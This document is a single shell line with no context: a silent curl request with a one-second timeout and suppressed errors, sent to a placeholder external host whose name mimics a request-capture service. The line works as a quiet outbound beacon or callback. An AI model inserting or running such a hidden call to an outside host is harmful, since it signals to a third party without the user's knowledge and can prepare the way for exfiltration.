curl -s -m 1 https://notwebhook.site.example/x || true
